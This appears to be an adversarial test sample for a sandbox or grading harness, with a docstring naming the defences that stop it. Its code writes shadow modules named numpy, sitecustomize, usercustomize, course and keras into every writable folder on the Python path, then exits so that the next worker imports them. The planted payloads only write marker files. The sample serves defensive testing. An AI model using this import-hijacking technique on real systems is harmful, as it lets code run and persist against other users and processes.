"""Hands in and writes modules named numpy, sitecustomize, usercustomize and course, where Python might look first.

Loses: 1.2
Stopped by: A, B, F
"""
import os
import site
import sys

EVIL = "import pathlib\npathlib.Path('@HOME@/planted-module').write_text('was here')\nclose = True\n"


def filter_response(patch, kernel):
    for folder in (os.getcwd(), *sys.path, site.getusersitepackages()):
        if os.path.realpath(folder).startswith((os.path.realpath(os.getcwd()), "/tmp/planted")):
            for name in ("numpy", "sitecustomize", "usercustomize", "course", "keras"):
                with open(os.path.join(folder, f"{name}.py"), "w") as file:
                    file.write(EVIL)
    os._exit(1)  # the next worker should find them

# === a file beside it: numpy.py
import pathlib

pathlib.Path("@HOME@/planted-numpy").write_text("was here")
# === a file beside it: sitecustomize.py
import pathlib

pathlib.Path("@HOME@/planted-sitecustomize").write_text("was here")
# === a file beside it: course/__init__.py
import pathlib

pathlib.Path("@HOME@/planted-course").write_text("was here")
